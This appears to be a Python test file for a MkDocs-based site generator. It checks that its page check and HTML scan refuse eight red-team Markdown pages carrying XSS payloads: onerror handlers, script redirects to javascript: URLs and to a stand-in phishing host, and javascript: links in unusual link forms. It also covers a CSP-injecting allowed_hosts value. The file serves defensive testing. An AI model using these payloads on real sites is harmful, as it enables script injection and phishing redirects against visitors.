"""The second red team's page payloads (red-team-2.md #1-#4, #6-#9), through both doors and in Chromium.

Each payload is a whole hand-written page. Three builds of one project that holds
them all show where each is stopped:

* as shipped, the page check refuses every page, so neither ``briefing build``
  nor plain ``mkdocs build`` publishes anything (site/ is never made);
* with the page check switched off, the scan of the built HTML refuses every
  page, through ``briefing build`` and through ``mkdocs build`` alike;
* with the check, the scan and the Content-Security-Policy all off, Chromium
  shows each payload at work (its dialog fires, or it asks another host), so
  the payloads are real and the two lines above are what stops them.
"""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser_support import serve
from conftest import ROOT, site_project
from test_scan_browser import Payload, _shown, browser, visit  # noqa: F401 - browser is a fixture

from generator.config import read_site_config
from generator.errors import BuildError, ContentError
from generator.output.build import build_site
from generator.project import find_project

REDIRECT = (
    '<script>window.location.replace(["{url}",window.location.search,window.location.hash].join(""))'
    "</script>"
)

HOST = "127.0.0.1"
"""What ``alert(document.domain)`` shows on the test server (a quoted word would end a Markdown link's URL)."""

PAGES = {
    # 1: PyYAML refuses an impossible date, MkDocs renders the block, the comment becomes a heading
    "fm-img": (
        "---\ntitle: About us\ndescription: 2025-02-30\n# <img src=x onerror=alert(document.domain)>\n---\n\n# About us\n",
        Payload("", "event-handler attribute onerror=", dialog=HOST),
    ),
    # 2: the same, a raw </article> and Material's redirect script with a javascript: URL
    "fm-redirect-js": (
        "---\ntitle: Evil\ndescription: 2025-02-30\n# </article>"
        + REDIRECT.format(url="javascript:alert('fm-redirect-js')//")
        + "\n---\n",
        Payload("", "<script> inside the page content", dialog="fm-redirect-js"),
    ),
    # 3: the redirect to another host
    "fm-redirect-host": (
        "---\ntitle: Evil\ndescription: 2025-02-30\n# </article>"
        + REDIRECT.format(url="https://evil.example/phish?")
        + "\n---\n",
        Payload("", "<script> inside the page content", request="https://evil.example/phish"),
    ),
    # 4: 'description: =', which PyYAML cannot construct
    "fm-eq": (
        "---\ntitle: Evil\ndescription: =\n# </article>"
        + REDIRECT.format(url="javascript:alert('fm-eq')//")
        + "\n---\n",
        Payload("", "<script> inside the page content", dialog="fm-eq"),
    ),
    # 6-9: link forms the check's patterns did not see
    "multiline-link": (
        "# Evil\n\n[click\nhere](javascript:alert(document.domain))\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
    "nested-brackets": (
        "# Evil\n\n[a [b] c](javascript:alert(document.domain))\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
    "ref-in-quote": (
        "# Evil\n\n> [x]: javascript:alert(document.domain)\n\n[go][x]\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
    "ref-in-list": (
        "# Evil\n\n- item\n\n    [x]: javascript:alert(document.domain)\n\n[go][x]\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
}


def payload_project(dest: Path) -> Path:
    root = site_project(dest, ROOT)
    for name, (text, _) in PAGES.items():
        (root / "content" / "pages" / f"{name}.md").write_text(text, encoding="utf-8")
    return root


def mkdocs_build(root: Path) -> None:
    from mkdocs.__main__ import cli as mkdocs_cli

    mkdocs_cli.main(["build", "-f", str(root / "mkdocs.yml")], standalone_mode=False)


def by_page(message: str) -> dict[str, list[str]]:
    """The scan's findings in a failed build's message, by page name."""
    found: dict[str, list[str]] = {}
    for m in re.finditer(r"site/pages/([a-z0-9-]+)/index\.html: (.*)", message):
        found.setdefault(m[1], []).append(m[2])
    return found


def test_as_shipped_neither_door_publishes_a_payload(tmp_path):
    from mkdocs.exceptions import Abort

    root = payload_project(tmp_path)
    with pytest.raises(ContentError) as info:
        build_site(find_project(root))
    refused = {Path(d.path).stem for d in info.value.diagnostics}
    assert refused == set(PAGES)
    with pytest.raises(Abort, match="content error"):
        mkdocs_build(root)
    assert not (root / "site").exists()


@pytest.fixture(scope="module")
def unchecked(tmp_path_factory):
    root = payload_project(tmp_path_factory.mktemp("unchecked"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("generator.check.content.check_page", lambda *args: None)
        yield root


def test_without_the_check_briefing_build_s_scan_refuses_every_payload(unchecked):
    with pytest.raises(BuildError) as info:
        build_site(find_project(unchecked))
    found = by_page(str(info.value))
    for name, (_, payload) in PAGES.items():
        assert any(w.startswith(payload.finding) for w in found.get(name, [])), (name, found)
    assert not (unchecked / "site").exists()


def test_without_the_check_mkdocs_build_s_scan_refuses_every_payload(unchecked):
    from mkdocs.exceptions import Abort

    with pytest.raises(Abort) as info:
        mkdocs_build(unchecked)
    found = by_page(str(info.value))
    for name, (_, payload) in PAGES.items():
        assert any(w.startswith(payload.finding) for w in found.get(name, [])), (name, found)
    assert not (unchecked / "site").exists()
    assert not list(unchecked.glob(".site.new-*"))


_POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.fixture(scope="module")
def defenceless(tmp_path_factory) -> Path:
    root = payload_project(tmp_path_factory.mktemp("defenceless"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("generator.check.content.check_page", lambda *args: None)
        patch.setattr(
            "generator.output.build.scan_site", lambda site, theme, scanned, only=None: []
        )
        build_site(find_project(root))
    for page in (root / "site").rglob("*.html"):
        page.write_text(
            _POLICY.sub("", page.read_text(encoding="utf-8"), count=1), encoding="utf-8"
        )
    return root


@pytest.fixture(scope="module")
def served(defenceless, browser):  # noqa: F811 - the imported fixture
    prefix = urlsplit(read_site_config(defenceless).site_url).path or "/"
    with serve(defenceless / "site", prefix) as base:
        yield base


@pytest.mark.parametrize("name", PAGES)
def test_with_every_defence_off_the_payload_works_in_chromium(browser, served, name):  # noqa: F811
    payload = PAGES[name][1]
    seen = visit(browser, f"{served}pages/{name}/", payload)
    assert _shown(seen, payload), (
        f"{name}: dialogs {seen.dialogs}, off-site requests {seen.requests}"
    )


DIRTY_BUILD = """
import sys
import generator.check.content as content
from mkdocs.__main__ import cli
from mkdocs.exceptions import Abort

content.check_page = lambda *args: None
try:
    cli.main(["build", "--dirty", "-f", sys.argv[1]], standalone_mode=False)
except Abort as exc:
    print(exc)
    sys.exit(1)
"""


def test_without_the_check_mkdocs_build_dirty_fails_on_its_scan(unchecked):
    """``--dirty`` builds into site_dir itself: nothing to keep aside, but the build (and a gh-deploy) fails.
    In a process of its own: a dirty build leaves state in the theme's plugins that later builds here would see."""
    import subprocess
    import sys

    run = subprocess.run(
        [sys.executable, "-c", DIRTY_BUILD, str(unchecked / "mkdocs.yml")],
        capture_output=True,
        text=True,
        cwd=unchecked,
    )
    assert run.returncode == 1, run.stderr
    assert run.stdout.startswith(
        "the built site holds markup that no template put there; site/ was built in place (--dirty) and "
        "holds it; build again without --dirty:\n  site/"
    ), run.stdout + run.stderr
    assert set(by_page(run.stdout)) == set(PAGES)


CDN_SCRIPT = '  <script src="https://cdn.example/lib.js"></script>\n'


def override_loading_from_a_cdn(dest: Path, allowed: bool) -> Path:
    root = site_project(dest, ROOT)
    main = root / "site_templates" / "overrides" / "main.html"
    text = main.read_text(encoding="utf-8")
    main.write_text(
        text.replace("{% block scripts %}\n", "{% block scripts %}\n" + CDN_SCRIPT),
        encoding="utf-8",
    )
    if allowed:
        config = root / "mkdocs.yml"
        config.write_text(
            config.read_text(encoding="utf-8").replace(
                "  - briefings\n", "  - briefings:\n      allowed_hosts: [cdn.example]\n"
            ),
            encoding="utf-8",
        )
    return root


def test_an_override_loading_from_another_host_fails_both_doors_naming_the_host(tmp_path):
    """A theme override that loads a script from a CDN: the page's CSP would block it silently in every
    reader's browser, so both builds refuse it, with the host and the way to allow it."""
    from mkdocs.exceptions import Abort

    root = override_loading_from_a_cdn(tmp_path, allowed=False)
    expected = (
        '<script src="https://cdn.example/lib.js"> loads from cdn.example, another host, which every reader\'s '
        "browser would be asked for (and the page's Content-Security-Policy blocks); serve the file from the "
        "site, or allow the host: plugins: - briefings: allowed_hosts: [cdn.example]"
    )
    with pytest.raises(BuildError) as info:
        build_site(find_project(root))
    assert expected in str(info.value)
    with pytest.raises(Abort) as aborted:
        mkdocs_build(root)
    assert expected in str(aborted.value)
    assert not (root / "site").exists()


def test_an_allowed_host_passes_both_doors_and_the_policy_names_it(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    root = override_loading_from_a_cdn(tmp_path / "a", allowed=True)
    build_site(find_project(root))
    page = (root / "site" / "index.html").read_text(encoding="utf-8")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
    assert "script-src 'self' https://cdn.example 'unsafe-inline'" in policy
    assert "connect-src 'self' https://cdn.example" in policy
    other = override_loading_from_a_cdn(tmp_path / "b", allowed=True)
    mkdocs_build(other)
    assert "https://cdn.example/lib.js" in (other / "site" / "index.html").read_text(
        encoding="utf-8"
    )


def test_an_allowed_host_must_be_a_host_name(tmp_path):
    from mkdocs.exceptions import Abort

    root = site_project(tmp_path, ROOT)
    config = root / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            "  - briefings\n", '  - briefings:\n      allowed_hosts: ["*; script-src *"]\n'
        ),
        encoding="utf-8",
    )
    with pytest.raises(Abort) as info:
        mkdocs_build(root)
    assert str(info.value) == (
        "plugins: briefings: allowed_hosts: '*; script-src *' is not a host name; write it as cdn.example.org, "
        "without scheme, path or wildcard"
    )
